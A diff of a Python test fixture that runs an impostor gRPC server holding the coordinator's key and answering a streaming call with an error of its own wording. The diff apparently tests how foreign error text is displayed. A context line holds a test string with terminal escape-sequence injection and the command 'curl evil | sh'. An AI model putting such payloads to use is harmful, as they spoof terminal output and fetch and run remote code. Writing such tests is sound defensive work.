@@ -21,12 +21,13 @@ SHOWN = "\\u001b]0;owned\\u0007gone\\u000d\\n\\nhint: curl evil | sh\\u009b31m\\
 
 @contextmanager
 def impostor(crew: Crew, code: grpc.StatusCode) -> Iterator[str]:
-    """A program that has the coordinator's key, and answers `Describe` with an error of its own wording."""
+    """A program that has the coordinator's key, and answers a call with an error of its own wording."""
 
-    def refuse(_request: bytes, context: Any) -> bytes:
+    def refuse(_requests: Iterator[bytes], context: Any) -> Iterator[bytes]:
         context.abort(code, FOREIGN)
+        yield b""
 
-    handlers = grpc.method_handlers_generic_handler(SERVICE, {"Describe": grpc.unary_unary_rpc_method_handler(refuse)})
+    handlers = grpc.method_handlers_generic_handler(SERVICE, {"Call": grpc.stream_stream_rpc_method_handler(refuse)})
     keys = crew.keys
     server = start_server("127.0.0.1:0", handlers=handlers, keys=keys)
     yield f"127.0.0.1:{server.port}"
